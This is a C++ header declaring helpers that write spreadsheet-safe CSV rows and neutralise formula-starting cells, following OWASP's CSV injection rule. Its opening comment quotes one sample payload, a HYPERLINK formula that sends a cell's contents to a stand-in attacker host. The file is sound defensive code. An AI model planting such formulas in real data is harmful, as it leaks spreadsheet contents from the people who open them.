#pragma once

// CSV files that people open in a spreadsheet (`blindspot export --format csv`): OWASP's rule
// against CSV (formula) injection. A spreadsheet runs a cell that starts with =, +, - or @ as a
// formula (and tab or CR can hide such a start), so text a stranger wrote -- an annotator's
// `=HYPERLINK("http://evil.example/?"&A1,"click")` -- would run, or leak other cells, on the
// owner's machine. docs/web.md, "Export".

#include <ostream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace blindspot::data {

// `text` with a ' in front if it starts with =, +, -, @, tab or CR; otherwise unchanged. A
// spreadsheet shows the ' -less text and runs nothing.
std::string spreadsheet_safe_text(std::string_view text);

// One cell of a spreadsheet CSV row: text (neutralised and always quoted) or a number we formatted
// ourselves, written bare so the spreadsheet reads it as a number.
struct SpreadsheetCell {
  std::string value;
  bool is_number = false;
  static SpreadsheetCell text(std::string value) { return {std::move(value), false}; }
  static SpreadsheetCell number(std::string value) { return {std::move(value), true}; }
};

// True for an optionally signed decimal number without exponent ("-0.5", "12"): nothing a
// spreadsheet can run.
bool is_plain_number(std::string_view value);

// Writes one LF-terminated RFC 4180 record. Text cells go through spreadsheet_safe_text and are
// quoted; number cells are written bare if is_plain_number holds, else as text.
void write_spreadsheet_csv_row(std::ostream& out, const std::vector<SpreadsheetCell>& cells);

}  // namespace blindspot::data
